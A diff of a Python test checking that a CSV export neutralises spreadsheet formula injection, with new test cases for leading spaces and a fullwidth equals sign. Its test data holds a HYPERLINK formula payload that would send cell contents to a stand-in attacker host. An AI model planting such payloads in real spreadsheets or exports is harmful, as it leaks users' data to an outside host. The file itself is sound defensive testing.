@@ -625,8 +625,8 @@ def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_a_replaced_file_ke
 
     from tests.events_gen import event, write_jsonl
 
-    names = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+SUM(1)", "-2+3", "@SUM(1)", "\tx", "\rx", "ok-user",
-             "a=b"]
+    names = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+SUM(1)", "-2+3", "@SUM(1)", "\tx", "\rx",
+             "  =1+1", "\uff1dSUM(1)", "ok-user", "a=b"]
     write_jsonl(tmp_path / "odd.jsonl", [event(90_000 + i, Username=u, ClientId="=1+1" if i == 0 else "app1")
                                          for i, u in enumerate(names)])
     rg("ingest", tmp_path / "odd.jsonl", db=store)
@@ -638,7 +638,7 @@ def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_a_replaced_file_ke
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
     with open(out, newline="", encoding="utf-8") as fh:
         rows = {r["username"]: r for r in csvlib.DictReader(fh)}
-    assert {u for u in rows if u[:1] in "'=+-@\t\r"} == {"'" + u for u in names[:6]}
+    assert {u for u in rows if u[:1] == "'"} == {"'" + u for u in names[:8]}
     assert "ok-user" in rows and "a=b" in rows
     assert rows["'" + names[0]]["client_id"] == "'=1+1"
     jl = tmp_path / "x.jsonl"
